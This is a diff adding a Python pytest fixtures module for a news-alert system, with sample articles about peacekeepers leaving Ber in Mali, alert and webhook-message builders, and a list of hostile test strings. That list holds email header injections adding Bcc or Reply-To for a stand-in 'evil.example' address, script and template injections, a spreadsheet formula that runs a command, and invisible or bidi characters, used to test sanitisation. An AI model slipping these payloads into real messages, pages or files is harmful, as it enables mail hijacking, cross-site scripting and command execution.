@@ -1,0 +1,132 @@
+"""Articles, alerts and messages for the tests of alerts, and strings that mean harm."""
+
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+
+from alerts.types import (
+    Alert,
+    AlertId,
+    AlertKind,
+    Article,
+    ArticleId,
+    ArticleRef,
+    DeliveryId,
+    EntityId,
+    Evidence,
+    Field,
+    Match,
+    Message,
+    RuleId,
+    Severity,
+)
+
+NOW = datetime(2023, 8, 14, 12, 0, tzinfo=UTC)
+TITLE = "Peacekeepers quit Ber base"
+TEXT = (
+    "The convoy left the camp at Ber before dawn, two days ahead of plan.\n"
+    "A spokesman for the CMA in northern Mali said its men would stay away.\n"
+    "MINUSMA gave no new date for Kidal."
+)
+
+# Each is tried as title, text, entity word and source, in both channels.
+HOSTILE = [
+    pytest.param("=?utf-8?q?=0D=0AReply-To:_spy=40evil.example?=", id="CVE-2024-6923"),
+    pytest.param("=?utf-8?b?DQpCY2M6IHNweUBldmlsLmV4YW1wbGU=?=", id="the same in base64"),
+    pytest.param("Hello\r\nBcc: spy@evil.example", id="line break and header"),
+    pytest.param("Hello\r\n\r\n<b>body</b>", id="empty line and body"),
+    pytest.param("Hello\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029Bcc: x@evil.example", id="rare breaks"),
+    pytest.param("<script>alert(1)</script>", id="script"),
+    pytest.param("\"><img src=x onerror='alert(1)'>", id="out of an attribute"),
+    pytest.param("</title></h1><style>*{display:none}</style>", id="closing tags"),
+    pytest.param("{{ 7 * 7 }}{% raw %}", id="template"),
+    pytest.param("&lt;b&gt; &amp; &#x202e;", id="entities"),
+    pytest.param("safe \u202egpj.exe\u202c \u2066x\u2069 \u200f\u200e\u061c", id="bidi controls"),
+    pytest.param("nul\x00 bell\x07 escape\x1b[31mred\x7f\x9b", id="controls"),
+    pytest.param("zero\u200bwidth\ufeff \U000e0041\U000e007f", id="invisible"),
+    pytest.param("lone \ud800 and \udfff surrogates", id="surrogates"),
+    pytest.param("=cmd|' /C calc'!A0", id="formula"),
+    pytest.param("مينوسما تغادر بير", id="arabic"),
+    pytest.param("بیانیه\u200cها 👩\u200d🚒", id="joiners stay"),
+    pytest.param("." * 3 + "\n.\nQUIT", id="end of data"),
+    pytest.param("x" * 100_000, id="long"),
+    pytest.param("é" * 20_000, id="long in utf-8"),
+    pytest.param("", id="empty"),
+]
+
+
+def ref(**changes: Any) -> ArticleRef:
+    """Return a reference to an article; keywords change it."""
+    given: dict[str, Any] = {
+        "id": ArticleId(7),
+        "url": "https://news.example/mali/ber",
+        "canonical_url": "https://news.example/mali/ber",
+        "source": "sahel-post",
+        "title": TITLE,
+        "published_at": datetime(2023, 8, 13, 9, 30, tzinfo=UTC),
+        "language": "en",
+    }
+    return ArticleRef(**(given | changes))
+
+
+def article(text: str = TEXT, **changes: Any) -> Article:
+    """Return an article; keywords change its reference."""
+    return Article(ref=ref(**changes), text=text)
+
+
+def found(
+    entity: str | None, word: str, *, field: Field = Field.TEXT, proof: str | None = None
+) -> Match:
+    """Return the first match of `word` in the title or text above, proved by `proof`."""
+    where = TITLE if field is Field.TITLE else TEXT
+    start = where.index(word)
+    evidence: tuple[Evidence, ...] = ()
+    if proof is not None:
+        at = TEXT.index(proof)
+        evidence = (
+            Evidence(set="mali", field=Field.TEXT, start=at, end=at + len(proof), text=proof),
+        )
+    return Match(
+        entity=EntityId(entity) if entity else None,
+        field=field,
+        start=start,
+        end=start + len(word),
+        text=word,
+        evidence=evidence,
+    )
+
+
+MATCHES = (
+    found("ber", "Ber", field=Field.TITLE, proof="Mali"),
+    found("ber", "Ber", proof="Mali"),
+    found("cma", "CMA", proof="Mali"),
+    found("minusma", "MINUSMA"),
+)
+
+
+def alert(**changes: Any) -> Alert:
+    """Return an alert on the article; `article`, `matches` and other keywords change it."""
+    given: dict[str, Any] = {
+        "id": AlertId("al_test"),
+        "rule": RuleId("un-leaves-the-north"),
+        "severity": Severity.HIGH,
+        "kind": AlertKind.ARTICLE,
+        "article": ref(),
+        "matches": MATCHES,
+        "created_at": NOW,
+    }
+    return Alert(**(given | changes))
+
+
+def message(**changes: Any) -> Message:
+    """Return a claimed message to the webhook channel `hook`; keywords change it."""
+    given: dict[str, Any] = {
+        "id": DeliveryId("msg_test"),
+        "alert_id": AlertId("al_test"),
+        "channel": "hook",
+        "recipient": "",
+        "body": b'{"type":"alert.created"}',
+        "attempts": 0,
+    }
+    return Message(**(given | changes))
